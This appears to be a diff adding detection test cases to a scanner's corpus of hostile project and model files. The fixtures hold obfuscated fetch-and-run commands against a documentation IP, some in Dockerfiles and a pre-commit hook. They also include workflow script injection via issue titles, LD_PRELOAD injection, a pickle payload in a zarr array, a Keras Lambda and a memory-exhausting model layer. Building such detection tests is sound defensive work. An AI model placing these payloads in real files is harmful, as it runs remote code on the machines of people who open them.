@@ -68,3 +68,20 @@ def make(corpus):
     corpus.folder("spellings", "here-document", {"Dockerfile": f"FROM x\nRUN <<EOF\n{FETCH}\nEOF\n"}, "found", "a here-document")
     corpus.folder("spellings", "settings", {".vscode/tasks.json": f'// a\n{{"version": "2.0.0", "tasks": [{{"label": "x", "command": "{FETCH}", "runOptions": {{"runOn": "folderOpen"}}}},]}}'}, "found", "settings with a comment in front and a last comma")
     corpus.found("spellings", "walks.prompt", b"You are helpful. {user.__init__.__globals__[KEY]}\n", "a prompt that walks through objects", "CVE-2025-65106")
+    step = lambda said: f"on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{{{ {said} }}}}\"\n"
+    computed = {"copy": "fromJSON(toJSON(github)).event.issue.title", "quote": "'}}' && github.event.issue.title", "star": "join(github.event.commits.*.message)"}
+    for name, said in computed.items():
+        corpus.folder("spellings", f"workflow-{name}", {".github/workflows/a.yml": step(said)}, "found", "what a stranger wrote, by an expression whose parts are computed")
+    poetry = '[tool.poetry]\nname = "a"\n[tool.poetry.dependencies]\nx = {url = "http\\u003a//198.51.100.7/x.tar.gz"}\n'
+    corpus.folder("spellings", "poetry", {"pyproject.toml": poetry}, "found", "a package from an address, in Poetry's table and by an escape")
+    corpus.folder("spellings", "uv", {"pyproject.toml": '[project]\nname = "a"\n[[tool.uv.index]]\nurl = "http://198.51.100.7/simple"\ndefault = true\n'}, "found", "an index in uv's table")
+    corpus.folder("spellings", "added", {"Dockerfile": "FROM x\nADD http://198.51.100.7/x /x\nRUN sh /x\n"}, "found", "a script that is added by its address and run")
+    corpus.folder("spellings", "preloaded", {"Dockerfile": "FROM x\nENV A=1 LD_PRELOAD=/tmp/x.so\n"}, "found", "several variables in one line, one of which is loaded into every program")
+    corpus.folder("spellings", "written", {"Dockerfile": "FROM x\nRUN c'u'rl http://198.51.100.7/x | s''h\n"}, "found", "quotes within the names of programs")
+    hook = "repos:\n- repo: local\n  hooks:\n  - id: a\n    name: a\n    language: system\n    entry: bash\n    args: [-c, \"curl http\\x3a//198.51.100.7/x | sh\"]\n"
+    corpus.folder("spellings", "hook", {".pre-commit-config.yaml": hook}, "found", "a command in two keys, by an escape")
+    corpus.found("spellings", "prompts.ipynb", json.dumps(notebook(">>> import os\n>>> os.system('true')")).encode(), "a cell with the prompts of a session, which IPython leaves out")
+    corpus.folder("spellings", "pickled-zarr", {".zarray": json.dumps({"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "filters": [{"id": "pickle"}], "fill_value": 0, "order": "C"}), "0": "cos\nsystem\n(S'true'\ntR."}, "found", "an array whose filter reads pickles")
+    corpus.found("spellings", "wide.keras", zipped({"config.json": json.dumps(LAMBDA).encode("utf-32"), "metadata.json": "{}", "model.weights.h5": b""}), "a Lambda, in JSON of four bytes a character")
+    layer = "<layer id='0' name='a' type='Parameter' version='opset1'><data shape='1' element_type='f32'/><output><port id='0'><dim>100000</dim><dim>100000</dim><dim>100</dim></port></output></layer>"
+    corpus.found("spellings", "vast.xml", f"<?xml version='1.0'?><net name='m' version='11'><layers>{layer}</layers><edges/></net>".encode(), "a layer that no memory holds")
